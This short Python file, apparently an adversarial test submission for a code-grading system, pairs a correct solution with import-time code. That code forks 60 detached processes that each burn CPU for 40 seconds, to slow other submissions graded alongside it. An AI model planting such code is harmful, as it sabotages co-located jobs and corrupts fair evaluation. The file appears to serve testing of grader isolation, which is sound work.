# attack on the neighbours: a correct solution that starts 60 busy processes whenever it is imported (each
# spins for 40 s, in its own session); its own runs pay for them, the submissions graded beside it must not
import os as _os
import time as _time

for _ in range(60):
    if _os.fork() == 0:
        _os.setsid()
        _end = _time.monotonic() + 40
        while _time.monotonic() < _end:
            pass
        _os._exit(0)
